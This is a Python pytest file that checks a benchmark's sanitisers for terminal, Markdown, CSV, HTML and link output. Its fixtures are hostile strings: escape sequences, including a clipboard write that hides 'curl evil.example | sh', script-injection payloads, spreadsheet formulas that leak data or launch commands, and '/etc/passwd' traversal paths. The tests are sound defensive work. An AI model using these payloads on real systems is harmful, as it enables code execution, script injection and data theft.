"""Untrusted text per output format (issue 27, 1c): each function of `asyncodebench.untrusted` against hostile
strings: line breaks and `|`, tags, terminal escapes (window title, clear screen, OSC 52 clipboard writes, 8-bit
C1 controls), bidi overrides, spreadsheet formulas and links with schemes or that climb out of the run folder."""

from __future__ import annotations

import re

import pytest

from asyncodebench.untrusted import (
    LINE_BREAK,
    REPLACEMENT,
    csv_cell,
    html_text,
    markdown_cell,
    markdown_text,
    page_link,
    plain_text,
    terminal_text,
)

WINDOW_TITLE = "\x1b]0;you have been pwned\x07"
WINDOW_TITLE_ST = "\x1b]2;pwned\x1b\\"
CLEAR_SCREEN = "\x1b[2J\x1b[3J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: puts a command on the clipboard
COLOUR = "\x1b[31;1m"
RESET = "\x1bc"
C1_CSI = "\x9b2J"  # the 8-bit form of ESC [
C1_OSC = "\x9d0;title\x9c"
BIDI = "\u202e\u2066\u2069\u200f\u061c"
ESCAPES = (WINDOW_TITLE, WINDOW_TITLE_ST, CLEAR_SCREEN, CLIPBOARD, COLOUR, RESET, C1_CSI, C1_OSC)
# Anything a terminal acts on: C0 but tab and newline, DEL, C1, and the bidi controls.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


@pytest.mark.parametrize("sequence", ESCAPES)
def test_terminal_text_removes_every_escape_sequence_whole(sequence: str) -> None:
    text = terminal_text(f"model{sequence}name")
    assert text == "modelname"  # the payload (title, clipboard data) goes with its sequence


def test_terminal_text_keeps_line_breaks_only_when_asked() -> None:
    hostile = "line one\nline two\r\nforged: 25 passed\rover"
    assert terminal_text(hostile) == f"line one{LINE_BREAK}line two{LINE_BREAK}forged: 25 passed{LINE_BREAK}over"
    assert terminal_text(hostile, newlines=True) == "line one\nline two\nforged: 25 passed\nover"
    assert "\n" not in terminal_text("a\u2028b\x85c\x0bd")  # what str.splitlines() also breaks at


def test_terminal_text_marks_controls_and_bidi_overrides() -> None:
    text = terminal_text(f"bell\x07 nul\x00 del\x7f c1\x85\x8d {BIDI}gpj.exe\ttab")
    assert not UNSAFE.search(text)
    assert text.count(REPLACEMENT) == 4 + len(BIDI) and "\ttab" in text  # \x85 is a line break, shown as such
    assert text.endswith("gpj.exe\ttab")


def test_terminal_text_of_everything_at_once_has_nothing_a_terminal_acts_on() -> None:
    hostile = "".join(ESCAPES) + BIDI + "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xa0)))
    for text in (terminal_text(hostile), terminal_text(hostile, newlines=True), plain_text(hostile)):
        assert not UNSAFE.search(text) and "\x1b" not in text


def test_plain_text_keeps_lines_and_tabs() -> None:
    assert plain_text(f"{COLOUR}FAILED{RESET} x.py\r\n\tat line 3\n") == "FAILED x.py\n\tat line 3\n"


@pytest.mark.parametrize("hostile", [
    "evil\n| injected | row |", "a|b", "a\\|b", "<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
    "`code` and ``more``", "[click](javascript:alert(1))", "![x](http://127.0.0.1:9/x.png)", "&lt;script&gt;",
    "<http://127.0.0.1:9/>", f"title{WINDOW_TITLE}{CLIPBOARD}", f"{BIDI}x", "a\r\nb\u2028c",
])
def test_a_markdown_cell_stays_one_cell_of_one_row(hostile: str) -> None:
    cell = markdown_cell(hostile)
    row = f"| 1 | {cell} | 2 |"
    assert "\n" not in cell and not UNSAFE.search(cell)
    assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) == 4  # unescaped pipes: the row's own four
    assert not re.search(r"(?<!\\)[<>`\[\]&]", cell)  # every tag, code, link and entity character escaped
    assert not re.search(r"(?<!\\)(?:\\\\)*\\$", cell)  # no dangling backslash that would escape the next pipe


def test_markdown_escapes_read_back_as_the_text() -> None:
    """CommonMark drops the backslash of an escaped punctuation character: what renders is what was written."""
    hostile = 'a | b <img onerror="x"> `c` [d](e) & \\'
    assert re.sub(r"\\(.)", r"\1", markdown_cell(hostile)) == hostile


@pytest.mark.parametrize(("text", "shown"), [("# heading", "\\# heading"), ("- item", "\\- item"),
                                             ("> quote", "\\> quote"), ("12. item", "12\\. item"),
                                             ("=====", "\\====="), ("a - b", "a - b"), ("plain", "plain")])
def test_markdown_text_cannot_open_a_block(text: str, shown: str) -> None:
    assert markdown_text(text) == shown


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_kept_as_text(formula: str) -> None:
    cell = csv_cell(formula)
    assert cell.startswith("'") and not UNSAFE.search(cell) and "\r" not in cell and "\n" not in cell


def test_csv_cells_keep_numbers_and_plain_text() -> None:
    assert [csv_cell(v) for v in (3, -2.5, None, True, "model-a", "a=b")] == [3, -2.5, None, True, "model-a", "a=b"]
    assert csv_cell(f"x{CLEAR_SCREEN}\ny") == f"x{LINE_BREAK}y"


@pytest.mark.parametrize("hostile", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<script>x</script>",
                                     "vbscript:x", "file:///etc/passwd", "C:/Windows/x", "../../etc/passwd",
                                     "a/../../b", "/etc/passwd", "//127.0.0.1/x", "", "a\\..\\b", "x\ny", "x\x1b[2J",
                                     "\u202ex"])
def test_a_link_that_leaves_the_run_folder_or_has_a_scheme_is_no_link(hostile: str) -> None:
    assert page_link(hostile) is None


def test_links_inside_the_run_folder_are_relative_and_encoded() -> None:
    assert page_link("predictions/m__single__t__1a2b3c4d/patch.diff") == "predictions/m__single__t__1a2b3c4d/patch.diff"
    assert page_link("predictions/x/") == "predictions/x/"
    assert page_link("./traj/a b?c#d.jsonl") == "traj/a%20b%3Fc%23d.jsonl"
    assert page_link("traj/javascript:alert(1)") == "traj/javascript%3Aalert%281%29"  # a name, not a scheme
    assert page_link("traj/x.jsonl", "../other-run/") == "../other-run/traj/x.jsonl"


def test_a_trajectory_link_climbs_only_by_the_kits_own_leading_steps() -> None:
    assert page_link("../../agents/s1/t.jsonl", climb=True) == "../../agents/s1/t.jsonl"
    assert page_link("../../agents/s1/t.jsonl", "../run/", climb=True) == "../run/../../agents/s1/t.jsonl"
    assert page_link("../javascript:alert(1)", climb=True) is None
    assert page_link("../a/../../etc/passwd", climb=True) is None
    assert page_link("../..", climb=True) is None
    assert page_link("x", "javascript:") is None and page_link("x", "/abs/") is None


def test_html_text_takes_controls_out_and_leaves_the_kits_markup_and_numbers() -> None:
    from markupsafe import Markup

    assert html_text(f"a{CLEAR_SCREEN}b\n\tc{BIDI}") == "ab\n\tc" + REPLACEMENT * len(BIDI)
    svg = Markup("<svg></svg>")
    assert html_text(svg) is svg and html_text(3) == 3 and html_text(None) is None
